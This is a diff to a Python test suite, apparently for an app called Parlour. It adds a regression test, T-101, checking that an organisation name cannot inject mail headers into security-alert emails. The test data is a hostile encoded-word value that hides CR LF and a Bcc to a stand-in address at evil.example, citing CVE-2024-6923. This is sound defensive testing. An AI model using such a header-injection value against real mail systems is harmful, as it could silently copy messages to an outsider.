@@ -81,9 +81,9 @@ async def bank(
 
 
 async def bank_and_key(
-    services: Services, tmp_path: Path, receiver: Receiver | None
+    services: Services, tmp_path: Path, receiver: Receiver | None, name: str = "Example Org"
 ) -> tuple[seed.Organisation, str]:
-    org = await seed.organisation(services, faq=None)
+    org = await seed.organisation(services, name=name, faq=None)
     people = accounts_on(services, tmp_path)
     for address, role in ((OWNER, Role.OWNER), (AGENT, Role.AGENT)):
         await people.members.set_up_demo_member(
@@ -187,6 +187,27 @@ async def test_an_alert_holds_counts_reasons_and_the_baseline_and_no_customer_te
         assert planted not in mail.as_string()
         assert planted.encode() not in delivery.body
     assert alert.alert_id == data["alert_id"]
+
+
+async def test_t101_an_organisations_name_cannot_add_a_header_to_an_alert_mail(
+    services: Services, clock: SetClock, relay: Relay, tmp_path: Path
+) -> None:
+    """T-101: the alert mail names the organisation, a name its owner chose, hiding CR LF and
+    a Bcc in an encoded word (CVE-2024-6923): it reaches the owner alone, with the headers
+    Parlour wrote only, built where every mail is (`identity.mail.compose`)."""
+    hostile = "=?utf-8?q?Evil=0D=0ABcc=3A_thief=40evil.example?="
+    org, _ = await bank_and_key(services, tmp_path, None, name=hostile)
+    await ordinary_fortnight(services, clock, org.tenant_id)
+    spike(services, org.tenant_id)
+    [_] = await services.security_alerts.check_all()
+
+    [(recipients, mail)] = relay.messages()
+    assert recipients == [OWNER]
+    assert sorted(mail.keys()) == sorted(
+        ["From", "To", "Subject", "Content-Type", "Content-Transfer-Encoding", "MIME-Version"]
+    )
+    assert "Bcc" not in mail
+    assert hostile in mail.get_content()  # the name as the text it is, in the body
 
 
 async def test_an_organisation_gets_at_most_a_few_alerts_an_hour(
